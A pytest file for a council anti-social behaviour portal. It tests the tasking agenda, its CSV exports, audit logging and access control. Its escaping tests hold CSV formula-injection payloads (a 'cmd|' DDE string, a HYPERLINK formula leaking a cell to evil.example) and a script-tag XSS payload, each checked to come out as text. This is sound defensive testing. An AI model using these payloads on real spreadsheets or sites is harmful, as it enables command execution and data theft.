"""The tasking meeting agenda, and the CSV downloads, whose cells can never run as formulas."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pytest
from flask import Flask
from sqlalchemy import select
from werkzeug.test import TestResponse

from portal.accounts.roles import VIEW
from portal.cases.agenda import months_before, previous_meeting
from portal.extensions import db
from portal.models import AuditEvent, Report, TaskingAction, TaskingRecord
from portal.models.audit import AuditAction
from portal.text.csv_safe import write_csv
from tests import cases
from tests.helpers import Page, PageClient, today
from tests.journey import submit
from tests.officers import Account

MEETING = date(2026, 3, 12)
NO_MEETING_BEFORE = date(2026, 1, 12)  # two months before MEETING, when no meeting is recorded


def make_case(app: Flask, **changes: Any) -> str:
    """The shared case factory: submitted after NO_MEETING_BEFORE, due in 30 days, with a
    description that must never reach an export."""
    changes.setdefault("submitted_at", datetime(2026, 2, 1, 10, 0, tzinfo=UTC))
    changes.setdefault("due_by", today() + timedelta(days=30))
    changes.setdefault("description", "Secret description of this case")
    return cases.make_case(app, **changes)


def _report_id(reference: str) -> int:
    report = db.session.scalar(db.select(Report).where(Report.reference == reference))
    assert report is not None
    return report.id


def record_meeting(app: Flask, reference: str, meeting: date | None, decision: str = "") -> None:
    with app.app_context():
        db.session.add(
            TaskingRecord(report_id=_report_id(reference), meeting_date=meeting, decision=decision)
        )
        db.session.commit()


def add_action(
    app: Flask, reference: str, description: str, owner: str, due: date, done_on: date | None = None
) -> None:
    with app.app_context():
        db.session.add(
            TaskingAction(
                report_id=_report_id(reference),
                description=description,
                owner=owner,
                due_date=due,
                done_on=done_on,
            )
        )
        db.session.commit()


def agenda(client: PageClient, meeting: date = MEETING) -> Page:
    page = client.get(f"/officer/agenda?date={meeting.isoformat()}")
    assert page.status == 200
    return page


def listed(page: Page, section: str | None = None) -> list[str]:
    scope = f"#{section} " if section else ""
    return [link.get_text(strip=True) for link in page.soup.select(f"{scope}.portal-agenda__case th a")]


def case_text(page: Page, reference: str) -> str:
    heading = page.soup.find(id=f"case-{reference}")
    assert heading is not None, f"{reference} is not on the agenda"
    case = heading.find_parent("tbody")
    assert case is not None
    return str(case.get_text(" ", strip=True))


def read_csv(response: TestResponse) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"), newline="")))


# The agenda's contents


def test_the_agenda_lists_only_open_tasking_cases(app: Flask, officer_client: PageClient) -> None:
    new = make_case(app)
    in_progress = make_case(app, status="in_progress")
    awaiting = make_case(app, status="awaiting_resident")
    rerouted_here = make_case(app, route="mediation", current_route="tasking")
    make_case(app, status="closed", outcome="resolved")
    make_case(app, route="mediation")
    make_case(app, route="target_hardening")
    make_case(app, route="tasking", current_route="mediation")

    page = agenda(officer_client)

    assert sorted(listed(page)) == sorted([new, in_progress, awaiting, rerouted_here])


def test_cases_new_since_the_last_meeting_come_first_safeguarding_then_by_due_date(
    app: Flask, officer_client: PageClient
) -> None:
    before = datetime(2026, 1, 5, 12, 0, tzinfo=UTC)
    after = datetime(2026, 2, 20, 12, 0, tzinfo=UTC)
    old_later = make_case(app, submitted_at=before, due_by=today() + timedelta(days=20))
    old_safeguarding = make_case(
        app, submitted_at=before, due_by=today() + timedelta(days=40), flags=["safeguarding"]
    )
    new_later = make_case(app, submitted_at=after, due_by=today() + timedelta(days=15))
    new_sooner = make_case(app, submitted_at=after, due_by=today() + timedelta(days=5))
    new_safeguarding = make_case(
        app, submitted_at=after, due_by=today() + timedelta(days=25), flags=["safeguarding"]
    )

    page = agenda(officer_client)

    assert listed(page, "new-cases") == [new_safeguarding, new_sooner, new_later]
    assert listed(page, "other-cases") == [old_safeguarding, old_later]
    assert listed(page) == [new_safeguarding, new_sooner, new_later, old_safeguarding, old_later]
    assert "New since the last meeting (3)" in page.text()
    assert "Carried over from earlier meetings (2)" in page.text()


def test_new_is_judged_on_the_london_calendar(app: Flask, officer_client: PageClient) -> None:
    # In summer London is an hour ahead: 23:30 UTC on 15 July is already 16 July in London.
    closed = make_case(app, status="closed", outcome="resolved")
    record_meeting(app, closed, date(2026, 7, 15))
    on_the_day = make_case(app, submitted_at=datetime(2026, 7, 15, 22, 30, tzinfo=UTC))
    next_day_in_london = make_case(app, submitted_at=datetime(2026, 7, 15, 23, 30, tzinfo=UTC))

    page = agenda(officer_client, date(2026, 9, 16))

    assert listed(page, "new-cases") == [next_day_in_london]
    assert listed(page, "other-cases") == [on_the_day]


def test_cases_reported_after_the_meeting_date_are_not_on_its_agenda(
    app: Flask, officer_client: PageClient
) -> None:
    known = make_case(app, submitted_at=datetime(2026, 3, 12, 9, 0, tzinfo=UTC))
    make_case(app, submitted_at=datetime(2026, 3, 13, 9, 0, tzinfo=UTC))
    assert listed(agenda(officer_client)) == [known]


def test_each_case_shows_risk_flags_due_date_status_and_officer(
    app: Flask, officer: Account, officer_client: PageClient
) -> None:
    reference = make_case(
        app,
        risk_level="high",
        risk_score=14,
        flags=["safeguarding", "hate_incident"],
        status="in_progress",
        assignee_id=officer.id,
        ward="Eckington North",
        postcode="S21 4AA",
        due_by=today() + timedelta(days=9),
    )

    text = case_text(agenda(officer_client), reference)

    assert "High score 14" in text
    assert "Safeguarding" in text and "hate" in text.lower()
    assert "Eckington North, S21 4AA" in text
    assert "In progress" in text
    assert officer.name in text
    assert "Overdue" not in text
    assert "None recorded" in text, "no tasking decision yet"
    assert "No outstanding actions" in text


def test_each_case_is_one_compact_row_with_its_details_in_a_details_component(
    app: Flask, officer_client: PageClient
) -> None:
    reference = make_case(app, risk_level="medium", risk_score=7, flags=["safeguarding", "hate_incident"])
    add_action(app, reference, "Visit the park with PCSOs", "Police: PC Khan", today() - timedelta(days=4))
    add_action(app, reference, "Write to the housing association", "Housing", today() + timedelta(days=10))
    quiet = make_case(app)

    page = agenda(officer_client, today() + timedelta(days=3))

    row = page.soup.find(id=f"case-{reference}").find_parent("tr")
    cells = [cell.get_text(" ", strip=True) for cell in row.find_all(["th", "td"])]
    headers = [th.get_text(strip=True) for th in row.find_parent("table").select(":scope > thead th")]
    assert headers == ["Case", "Risk", "Flags", "Due by", "Actions outstanding"]
    assert cells[1:3] == ["Medium score 7", "Safeguarding Hate incident"]
    assert [tag.get_text(strip=True) for tag in row.select(".govuk-tag")][1:] == [
        "Safeguarding",
        "Hate incident",
    ]
    assert cells[4] == "2, 1 overdue"
    details = row.find_next_sibling("tr").find("details", class_="govuk-details")
    assert details is not None and not details.has_attr("open"), "closed on screen"
    assert details.summary.get_text(strip=True) == f"Details of {reference}"
    assert "Visit the park with PCSOs" in details.get_text()
    quiet_row = page.soup.find(id=f"case-{quiet}").find_parent("tr")
    quiet_cells = [cell.get_text(strip=True) for cell in quiet_row.find_all("td")]
    assert (quiet_cells[1], quiet_cells[3]) == ("None", "None"), "no flags, no actions outstanding"


def test_an_overdue_case_is_marked_and_a_contacted_one_is_not(app: Flask, officer_client: PageClient) -> None:
    overdue = make_case(app, due_by=today() - timedelta(days=5))
    contacted = make_case(
        app, due_by=today() - timedelta(days=5), first_contact_on=today() - timedelta(days=6)
    )
    page = agenda(officer_client, today() + timedelta(days=3))
    assert "Overdue" in case_text(page, overdue)
    assert "Overdue" not in case_text(page, contacted)


def test_outstanding_actions_are_shown_with_owner_and_due_date_and_done_ones_are_not(
    app: Flask, officer_client: PageClient
) -> None:
    reference = make_case(app)
    add_action(app, reference, "Visit the park with PCSOs", "Police: PC Khan", today() - timedelta(days=4))
    add_action(
        app, reference, "Write to the housing association", "Housing: J Moss", today() + timedelta(days=10)
    )
    add_action(app, reference, "Check the CCTV", "CCTV team", today() - timedelta(days=20), done_on=today())

    page = agenda(officer_client, today() + timedelta(days=3))

    text = case_text(page, reference)
    assert "Visit the park with PCSOs" in text and "Police: PC Khan" in text
    assert "Write to the housing association" in text and "Housing: J Moss" in text
    assert "Check the CCTV" not in text, "a done action is not outstanding"
    rows = page.soup.select(".portal-agenda__action")
    assert [row.find("td").get_text(strip=True) for row in rows] == [
        "Visit the park with PCSOs",
        "Write to the housing association",
    ]
    assert "Overdue" in rows[0].get_text() and "Overdue" not in rows[1].get_text()


def test_the_tasking_decision_is_shown_when_recorded(app: Flask, officer_client: PageClient) -> None:
    reference = make_case(app)
    record_meeting(app, reference, date(2026, 1, 8), decision="Joint visit by police and housing")
    text = case_text(agenda(officer_client), reference)
    assert "Joint visit by police and housing (meeting of Thursday 8 January 2026)" in text


def test_the_previous_meeting_is_the_latest_recorded_before_the_chosen_date(
    app: Flask, officer_client: PageClient
) -> None:
    for meeting in (date(2026, 1, 10), date(2026, 3, 5), date(2026, 3, 5), date(2026, 5, 20)):
        record_meeting(app, make_case(app, status="closed", outcome="resolved"), meeting)
    record_meeting(app, make_case(app, status="closed", outcome="resolved"), None)

    with app.app_context():
        assert previous_meeting(date(2026, 4, 1)) == (date(2026, 3, 5), True)
        assert previous_meeting(date(2026, 3, 5)) == (date(2026, 1, 10), True), "strictly before"
        assert previous_meeting(date(2026, 1, 10)) == (date(2025, 11, 10), False)

    page = agenda(officer_client, date(2026, 4, 1))
    shown = page.soup.find(id="previous-meeting")
    assert shown is not None
    assert "Thursday 5 March 2026" in shown.get_text(" ", strip=True)
    assert "latest meeting recorded" in shown.get_text(" ", strip=True)


def test_with_no_meeting_recorded_the_previous_is_two_months_before(
    app: Flask, officer_client: PageClient
) -> None:
    page = agenda(officer_client)
    shown = page.soup.find(id="previous-meeting")
    assert shown is not None
    assert "Monday 12 January 2026" in shown.get_text(" ", strip=True)
    assert "2 months before" in shown.get_text(" ", strip=True)


@pytest.mark.parametrize(
    ("day", "expected"),
    [
        (date(2026, 3, 12), date(2026, 1, 12)),
        (date(2026, 1, 15), date(2025, 11, 15)),
        (date(2026, 2, 10), date(2025, 12, 10)),
        (date(2026, 4, 30), date(2026, 2, 28)),
        (date(2028, 4, 30), date(2028, 2, 29)),
        (date(2026, 12, 31), date(2026, 10, 31)),
    ],
)
def test_two_months_before_keeps_the_day_or_takes_the_shorter_month_s_last(day: date, expected: date) -> None:
    assert months_before(day, 2) == expected


def test_the_agenda_is_for_today_unless_another_date_is_chosen(
    app: Flask, officer_client: PageClient
) -> None:
    page = officer_client.get("/officer/agenda")
    assert page.status == 200
    shown = date(int(page.value("year")), int(page.value("month")), int(page.value("day")))
    assert abs(shown - today()) <= timedelta(days=1), "today in London (a day out at most from this clock)"
    chosen = officer_client.get("/officer/agenda?day=12&month=3&year=2026")
    assert chosen.status == 200
    assert "Thursday 12 March 2026" in chosen.h1
    assert (chosen.value("day"), chosen.value("month"), chosen.value("year")) == ("12", "3", "2026")


def test_a_report_sent_through_the_journey_is_new_on_today_s_agenda(
    app: Flask, client: PageClient, officer_client: PageClient
) -> None:
    submit(client, "asb")  # an ASB report not willing to mediate goes to tasking
    with app.app_context():
        reference = db.session.scalar(db.select(Report.reference))
    page = officer_client.get("/officer/agenda")
    assert listed(page, "new-cases") == [reference]


def _many_cases(app: Flask) -> list[str]:
    """55 new cases and 10 carried over, in the order the agenda must give them."""
    before = datetime(2026, 1, 5, 12, 0, tzinfo=UTC)
    new = [
        make_case(
            app,
            due_by=today() + timedelta(days=60 - number),
            flags=["safeguarding"] if number % 9 == 0 else [],
        )
        for number in range(55)
    ]
    old = [
        make_case(app, submitted_at=before, due_by=today() + timedelta(days=number % 4))
        for number in range(10)
    ]

    def order(reference: str) -> tuple[bool, date, int]:
        with app.app_context():
            report = db.session.scalars(db.select(Report).where(Report.reference == reference)).one()
            return (not report.safeguarding, report.due_by, report.id)

    return sorted(new, key=order) + sorted(old, key=order)


def test_a_long_agenda_is_shown_50_cases_at_a_time_in_agenda_order(
    app: Flask, officer_client: PageClient
) -> None:
    expected = _many_cases(app)

    first = agenda(officer_client)
    assert listed(first) == expected[:50]
    assert "New since the last meeting (55)" in first.text()
    assert "This agenda has 65 cases, shown 50 at a time" in first.text()
    following = first.soup.find("a", rel="next")
    assert following is not None
    second = officer_client.get(following["href"])
    assert listed(second, "new-cases") == expected[50:55]
    assert listed(second, "other-cases") == expected[55:]
    assert "Carried over from earlier meetings (10)" in second.text()
    assert second.soup.find("a", rel="next") is None
    back = second.soup.find("a", rel="prev")
    assert back.get_text(strip=True) == "First page"
    assert back["href"] == "/officer/agenda?date=2026-03-12"

    csv_rows = read_csv(officer_client.get_raw(f"/officer/agenda.csv?date={MEETING.isoformat()}"))[1:]
    assert [row[1] for row in csv_rows] == expected, "the CSV holds the whole agenda, in the same order"


@pytest.mark.parametrize(
    "after", ["nonsense", "2.0.2026-01-01.5", "0.0.2026-13-40.5", "0.0.2026-01-01." + "9" * 12]
)
def test_a_page_link_that_is_not_one_shows_the_first_page(
    app: Flask, officer_client: PageClient, after: str
) -> None:
    reference = make_case(app)
    page = officer_client.get(f"/officer/agenda?date={MEETING.isoformat()}&after={after}")
    assert page.status == 200 and listed(page) == [reference]


def test_the_back_office_navigation_links_to_the_agenda(officer_client: PageClient) -> None:
    page = officer_client.get("/officer/")
    links = {
        a.get_text(strip=True): a["href"] for a in page.soup.select(".govuk-service-navigation__link[href]")
    }
    assert links["Tasking agenda"] == "/officer/agenda"


# Bad input


@pytest.mark.parametrize(
    "query",
    [
        "date=not-a-date",
        "date=2026-02-30",
        "date=2026-13-01",
        "date=20260312",
        "date=",
        "date=0001-01-01",
        "date=9999-12-31",
        "date=" + "9" * 5000,
        "day=31&month=2&year=2026",
        "day=&month=&year=",
        "day=twelve&month=3&year=2026",
        "day=12&month=3&year=26",
        "day=12&month=3",
        "day=-1&month=3&year=2026",
        "day=%00&month=3&year=2026",
    ],
)
def test_a_meeting_date_that_is_not_a_real_date_gets_a_clear_message(
    officer_client: PageClient, query: str
) -> None:
    for path in ("/officer/agenda", "/officer/agenda.csv"):
        page = officer_client.get(f"{path}?{query}")
        assert page.status == 400
        assert page.errors == ["Enter a real meeting date"]
        assert page.title.startswith("Error:")
        assert not page.soup.select(".portal-agenda__section")


def test_what_was_typed_is_kept_when_the_date_is_not_real(officer_client: PageClient) -> None:
    page = officer_client.get("/officer/agenda?day=31&month=2&year=2026")
    assert (page.value("day"), page.value("month"), page.value("year")) == ("31", "2", "2026")
    assert page.soup.select_one("#date-day.govuk-input--error") is not None


# The agenda CSV


def test_the_agenda_csv_matches_the_page(app: Flask, officer: Account, officer_client: PageClient) -> None:
    old = make_case(
        app, submitted_at=datetime(2026, 1, 2, 9, 0, tzinfo=UTC), risk_level="medium", risk_score=8
    )
    new = make_case(
        app,
        flags=["safeguarding", "hate_incident"],
        assignee_id=officer.id,
        due_by=today() - timedelta(days=2),
    )
    record_meeting(app, old, date(2026, 1, 8), decision="Refer to the youth team")
    add_action(app, old, "Youth team outreach", "Youth services", today() - timedelta(days=1))
    add_action(app, old, "Letter to the family", "ASB officer", today() + timedelta(days=7))
    add_action(app, old, "Finished work", "Someone", today(), done_on=today())

    page = agenda(officer_client)
    response = officer_client.get_raw(f"/officer/agenda.csv?date={MEETING.isoformat()}")

    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="tasking-agenda-2026-03-12.csv"'
    header, *rows = read_csv(response)
    assert header == [
        "Section",
        "Reference",
        "Submitted",
        "Kind",
        "Ward",
        "Postcode",
        "Risk level",
        "Risk score",
        "Flags",
        "Due by",
        "Overdue",
        "Status",
        "Officer",
        "Tasking decision",
        "Outstanding actions",
    ]
    assert [row[1] for row in rows] == listed(page) == [new, old]
    by_reference = {row[1]: dict(zip(header, row, strict=True)) for row in rows}
    assert by_reference[new]["Section"] == "New since the last meeting"
    assert by_reference[new]["Overdue"] == "Yes"
    assert by_reference[new]["Officer"] == officer.name
    assert "Safeguarding" in by_reference[new]["Flags"]
    assert by_reference[old]["Section"] == "Carried over"
    assert by_reference[old]["Submitted"] == "2026-01-02"
    assert (by_reference[old]["Risk level"], by_reference[old]["Risk score"]) == ("medium", "8")
    assert by_reference[old]["Tasking decision"] == "Refer to the youth team"
    assert by_reference[old]["Outstanding actions"].splitlines() == [
        f"Youth team outreach – Youth services – due {(today() - timedelta(days=1)).isoformat()} (overdue)",
        f"Letter to the family – ASB officer – due {(today() + timedelta(days=7)).isoformat()}",
    ]
    body = response.get_data(as_text=True)
    assert "Finished work" not in body
    assert "Secret description" not in body and "Resident" not in body


def test_the_agenda_page_links_to_its_csv(app: Flask, officer_client: PageClient) -> None:
    page = agenda(officer_client)
    link = page.soup.find("a", string="Download this agenda (CSV)")
    assert link is not None and link["href"] == "/officer/agenda.csv?date=2026-03-12"


def test_text_officers_typed_is_escaped_in_the_agenda_csv(app: Flask, officer_client: PageClient) -> None:
    reference = make_case(app)
    record_meeting(app, reference, date(2026, 1, 8), decision="=cmd|' /C calc'!A0")
    add_action(app, reference, "@SUM(1+1)*cmd|' /C calc'!A0", "+44 7700 900123", today())
    response = officer_client.get_raw(f"/officer/agenda.csv?date={MEETING.isoformat()}")
    header, row = read_csv(response)
    cells = dict(zip(header, row, strict=True))
    assert cells["Tasking decision"] == "'=cmd|' /C calc'!A0"
    assert cells["Outstanding actions"].startswith("'@SUM(1+1)")


# CSV escaping


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_beginning_with_a_formula_character_is_written_as_text(first: str) -> None:
    value = f"{first}1+1"
    [_header, row] = list(csv.reader(io.StringIO(write_csv([[value, "plain"]], ["A", "B"]), newline="")))
    assert row == ["'" + value, "plain"]


def test_a_reporter_name_like_a_hyperlink_formula_is_written_as_text() -> None:
    name = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
    text = write_csv([["DIO-2026-000001", name]], ["Reference", "Reporter"])
    [_header, row] = list(csv.reader(io.StringIO(text, newline="")))
    assert row == ["DIO-2026-000001", "'" + name]


def test_headers_are_escaped_too_and_safe_text_is_left_alone() -> None:
    text = write_csv([["Mrs O'Neill", "a=b", "S18 1AB", " =not first"]], ["=Header", "B", "C", "D"])
    header, row = list(csv.reader(io.StringIO(text, newline="")))
    assert header == ["'=Header", "B", "C", "D"]
    assert row == ["Mrs O'Neill", "a=b", "S18 1AB", " =not first"]


def test_line_breaks_commas_and_quotes_never_break_a_row() -> None:
    tricky = 'first line\nsecond, with a comma\r\nand "quotes"'
    text = write_csv([[tricky, "next"], ["second row", ""]], ["A", "B"])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["A", "B"], [tricky, "next"], ["second row", ""]]
    assert text.endswith("\r\n")


def test_numbers_dates_and_nothing_are_written_plainly() -> None:
    text = write_csv(
        [[-3, 2.5, date(2026, 3, 12), datetime(2026, 3, 12, 14, 5), None, True, False]],
        ["A", "B", "C", "D", "E", "F", "G"],
    )
    [_header, row] = list(csv.reader(io.StringIO(text, newline="")))
    assert row == ["-3", "2.5", "2026-03-12", "2026-03-12 14:05", "", "Yes", "No"]


# The queue export

QUEUE_HEADER = [
    "Reference",
    "Submitted",
    "Kind",
    "Route",
    "Status",
    "Risk level",
    "Risk score",
    "Flags",
    "Due by",
    "First contact",
    "Ward",
    "Postcode",
    "Officer",
]


def queue_references(page: Page) -> list[str]:
    return [a.get_text(strip=True) for a in page.soup.select("table.portal-queue tbody tr td:first-child a")]


def test_the_queue_export_honours_the_filters_in_queue_order(
    app: Flask, officer: Account, officer_client: PageClient
) -> None:
    high_later = make_case(app, risk_level="high", due_by=today() + timedelta(days=20))
    high_overdue = make_case(app, risk_level="high", due_by=today() - timedelta(days=2))
    high_mine = make_case(app, risk_level="high", assignee_id=officer.id, due_by=today() + timedelta(days=9))
    make_case(app, risk_level="high", route="mediation")
    make_case(app, risk_level="high", status="closed", outcome="resolved")
    make_case(app, risk_level="standard")

    query = "tab=tasking&risk_level=high"
    response = officer_client.get_raw(f"/officer/queue.csv?{query}")

    assert response.status_code == 200
    header, *rows = read_csv(response)
    assert header == QUEUE_HEADER
    exported = [row[0] for row in rows]
    assert exported == [high_overdue, high_mine, high_later]
    assert exported == queue_references(officer_client.get(f"/officer/?{query}"))
    mine = read_csv(officer_client.get_raw(f"/officer/queue.csv?{query}&assignee=mine"))
    assert [row[0] for row in mine[1:]] == [high_mine]
    row = dict(zip(header, rows[1], strict=True))
    assert row["Route"] == "Tasking" and row["Status"] == "New" and row["Officer"] == officer.name
    assert (row["Risk level"], row["Ward"], row["Postcode"]) == ("high", "Dronfield North", "S18 1AB")
    assert row["Submitted"] == "2026-02-01 10:00"
    assert row["First contact"] == ""


def test_the_queue_export_holds_no_description_or_resident_details(
    app: Flask, officer_client: PageClient
) -> None:
    make_case(app, description='=HYPERLINK("https://evil.example") the private story')
    body = officer_client.get_raw("/officer/queue.csv").get_data(as_text=True)
    assert "private story" not in body and "Secret description" not in body
    assert "Resident" not in body and "example.org" not in body and "1 Park Road" not in body


def test_the_queue_links_to_its_export_keeping_the_filters(app: Flask, officer_client: PageClient) -> None:
    make_case(app, risk_level="high", status="in_progress")
    page = officer_client.get(
        "/officer/?tab=tasking&status=in_progress&risk_level=high&ward=Dronfield+North&q=Resident"
    )
    link = page.soup.find("a", string="Download these cases (CSV)")
    assert link is not None
    href = str(link["href"])
    assert href.startswith("/officer/queue.csv?")
    for part in (
        "tab=tasking",
        "risk_level=high",
        "ward=Dronfield+North",
        "q=Resident",
        "status=in_progress",
    ):
        assert part in href
    # A search by postcode looks at every status, and so does its download.
    page = officer_client.get("/officer/?tab=tasking&status=open&q=S18+1AB")
    href = str(page.soup.find("a", string="Download these cases (CSV)")["href"])
    assert "q=S18+1AB" in href and "status=all" in href


def test_an_empty_export_still_has_its_header(officer_client: PageClient) -> None:
    response = officer_client.get_raw("/officer/queue.csv?tab=mediation&flag=nonsense&risk_level=bogus")
    assert response.status_code == 200
    assert read_csv(response) == [QUEUE_HEADER]


@pytest.mark.parametrize("path", ["/officer/queue.csv", f"/officer/agenda.csv?date={MEETING.isoformat()}"])
def test_downloads_are_attachments_never_cached_or_sniffed(officer_client: PageClient, path: str) -> None:
    response = officer_client.get_raw(path)
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith("attachment; filename=")
    assert response.headers["Content-Disposition"].endswith('.csv"')
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["X-Content-Type-Options"] == "nosniff"


# Each export is in the audit log


def exports_recorded(app: Flask) -> list[tuple[int | None, int | None, dict[str, Any] | None]]:
    with app.app_context():
        return [
            (entry.actor_id, entry.report_id, entry.after)
            for entry in db.session.scalars(
                select(AuditEvent).where(AuditEvent.action == AuditAction.EXPORTED).order_by(AuditEvent.id)
            )
        ]


def test_each_queue_export_is_audited_with_who_its_filters_and_count_but_not_the_search(
    app: Flask, officer: Account, officer_client: PageClient
) -> None:
    make_case(app, risk_level="high")
    make_case(app, risk_level="standard")

    officer_client.get_raw("/officer/queue.csv?tab=tasking&risk_level=high")
    officer_client.get_raw("/officer/queue.csv?q=Sam+Resident&ward=Dronfield+North")

    assert exports_recorded(app) == [
        (
            officer.id,
            None,
            {
                "export": "queue",
                "filters": {"tab": "tasking", "status": "open", "risk_level": "high", "searched": False},
                "cases": 1,
            },
        ),
        (
            officer.id,
            None,
            {
                "export": "queue",
                "filters": {"tab": "all", "status": "open", "ward": "Dronfield North", "searched": True},
                "cases": 0,
            },
        ),
    ]


def test_each_agenda_export_is_audited_with_who_the_meeting_and_count(
    app: Flask, supervisor: Account, supervisor_client: PageClient
) -> None:
    make_case(app)
    make_case(app)

    supervisor_client.get_raw(f"/officer/agenda.csv?date={MEETING.isoformat()}")

    assert exports_recorded(app) == [
        (
            supervisor.id,
            None,
            {"export": "tasking_agenda", "filters": {"meeting": MEETING.isoformat()}, "cases": 2},
        )
    ]


def test_supervisors_see_every_export_on_the_downloads_page_and_officers_cannot(
    app: Flask, officer_client: PageClient, supervisor_client: PageClient
) -> None:
    make_case(app)
    officer_client.get_raw("/officer/queue.csv?tab=tasking&q=Sam+Resident")
    supervisor_client.get_raw(f"/officer/agenda.csv?date={MEETING.isoformat()}")

    page = supervisor_client.get("/officer/")
    assert page.soup.find("a", string="Downloads and exports")["href"] == "/officer/downloads"
    page = supervisor_client.get("/officer/downloads")
    assert page.h1 == "Downloads and exports"
    rows = [
        [cell.get_text(" ", strip=True) for cell in tr.find_all("td")]
        for tr in page.soup.select("table.portal-downloads tbody tr")
    ]
    assert [row[1:] for row in rows] == [
        ["Test Supervisor", "Exported the tasking agenda as CSV", "–", "1 case; meeting: 2026-03-12"],
        [
            "Test Officer",
            "Exported the queue as CSV",
            "–",
            "0 cases; tab: tasking; status: open; searched: yes",
        ],
    ]
    assert "Sam" not in page.text()
    assert officer_client.get_raw("/officer/downloads").status_code == 403
    assert officer_client.get("/officer/").soup.find("a", string="Downloads and exports") is None


# Who may see them


@pytest.mark.parametrize("path", ["/officer/agenda", "/officer/agenda.csv", "/officer/queue.csv"])
def test_anonymous_visitors_are_sent_to_sign_in(client: PageClient, path: str) -> None:
    response = client.get_raw(path)
    assert response.status_code == 302
    assert response.headers["Location"].startswith("/officer/sign-in")
    assert client.get(path).h1 == "Sign in to the back-office"


def test_every_agenda_and_export_view_needs_the_view_permission(app: Flask) -> None:
    for endpoint in ("officer.agenda", "officer.agenda_csv", "officer.queue_csv"):
        assert app.view_functions[endpoint].required_permission == VIEW  # type: ignore[attr-defined]


def test_supervisors_see_the_agenda_too(app: Flask, supervisor_client: PageClient) -> None:
    reference = make_case(app)
    assert listed(agenda(supervisor_client)) == [reference]


def test_text_officers_typed_is_shown_as_text_on_the_agenda(app: Flask, officer_client: PageClient) -> None:
    reference = make_case(app)
    record_meeting(app, reference, date(2026, 1, 8), decision="<script>alert(1)</script>")
    add_action(app, reference, "<b>bold</b>", "<i>owner</i>", today())
    page = agenda(officer_client)
    assert page.soup.find("script", string="alert(1)") is None and page.soup.find("b") is None
    assert "<script>alert(1)</script>" in case_text(page, reference)
